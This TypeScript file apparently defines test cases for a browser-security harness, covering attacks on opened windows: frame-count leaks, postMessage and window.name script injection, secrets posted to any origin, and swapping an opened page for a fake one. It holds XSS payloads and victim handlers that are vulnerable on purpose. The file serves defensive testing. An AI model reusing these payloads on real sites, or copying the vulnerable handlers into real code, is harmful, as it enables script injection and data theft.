import type { Attack } from '../attack.js';
import type { Victim } from '../victim.js';

/** The person clicks on the attacker's page, which opens the victim's in a window and keeps hold of it. */
const opens = (
  id: string,
  what: string,
  goal: Attack['goal'],
  script: string,
  serve: (victim: Victim) => void,
  more: Partial<Attack> = {},
): Attack => ({
  id,
  what,
  goal,
  by: ['attacker: cut off'],
  serve,
  pages: () => ({
    '/go': `<button id="x">Open</button><script>
let opened;
x.onclick = () => {
  opened = open(names.victim + '/window', '<img src=x: onerror=pwned()>');
  const timer = setInterval(() => { if (opened.closed) { clearInterval(timer); done('cut off'); } else step(); }, 50);
};
${script}
</script>`,
  }),
  async act(scene) {
    await scene.signIn();
    await scene.page.goto(`${scene.names.evil}/go`);
    await scene.popup(() => scene.page.click('#x'));
  },
  ...more,
});

export const windows: readonly Attack[] = [
  opens(
    'frame-count',
    'the number of frames of an opened page tells what it shows',
    'loot',
    "const step = () => { if (opened.length === 2) loot('two frames'); };",
    ({ app, page }) =>
      void app.get('/window', (_req, res) => page(res, '<iframe></iframe><iframe></iframe>')),
    { short: true },
  ),
  opens(
    'message-to-window',
    'a message to a page that puts what it hears into the page',
    'script',
    "const step = () => opened.postMessage('<img src=x: onerror=pwned()>', '*');",
    ({ app, page, script }) =>
      void app.get('/window', (_req, res) =>
        page(res, `<p id="out"></p>${script(res, 'onmessage = ({ data }) => (out.innerHTML = data)')}`),
      ),
  ),
  opens(
    'message-to-opener',
    'a page that tells whoever has opened it',
    'secret',
    'onmessage = ({ data }) => loot(data); const step = () => undefined;',
    ({ app, page, script, state }) =>
      void app.get('/window', (_req, res) =>
        page(res, script(res, `setInterval(() => opener?.postMessage('${state.secret}', '*'), 50)`)),
      ),
  ),
  opens(
    'window-name',
    'a page that shows the name of its window, which the opener has chosen',
    'script',
    'const step = () => undefined;',
    ({ app, page, script }) =>
      void app.get('/window', (_req, res) =>
        page(res, `<p id="out"></p>${script(res, 'out.innerHTML = name')}`),
      ),
  ),
  opens(
    'window-navigation',
    'an opened page that is exchanged for a false one, once the person has seen the true one',
    'loot',
    "const step = () => { if (opened.length === 1) opened.location = names.evil + '/loot?false-page'; };",
    ({ app, page }) => void app.get('/window', (_req, res) => page(res, '<iframe></iframe>')),
  ),
];
